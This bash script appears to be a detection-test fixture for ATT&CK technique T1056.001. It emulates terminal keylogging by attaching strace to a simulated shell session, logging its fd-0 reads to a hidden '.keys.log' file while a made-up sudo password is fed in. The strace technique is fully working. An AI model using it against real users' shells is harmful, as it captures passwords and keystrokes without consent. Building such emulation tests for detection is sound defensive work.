#!/bin/bash
# Keylog a terminal: attach strace to a running shell session and dump everything it reads
# from its terminal (fd 0) into a hidden file, while the "user" types a sudo password
# (made up). The session is a shell reading from a pipe this script feeds; strace is
# stopped once the line was captured.
# technique: T1056.001
# expect: keystroke-capture
set -eu
mkfifo "$TPY_WORK/tty"
bash -c 'while read -r line; do :; done' < "$TPY_WORK/tty" &
session=$!
exec 3> "$TPY_WORK/tty"
sleep 0.5
strace -p "$session" -e trace=read -e read=0 -o "$TPY_WORK/.keys.log" &
tracer=$!
sleep 1
echo 'sudo -S true <<< not-a-real-password' >&3
sleep 1
kill "$tracer"
wait "$tracer" || true
exec 3>&-
wait "$session" || true
# bash's read takes one byte per call from a pipe: each keystroke is its own read(0, ...)
echo "captured $(grep -c '^read(0, ' "$TPY_WORK/.keys.log") reads"
grep -q '^read(0, "n", 1)' "$TPY_WORK/.keys.log"
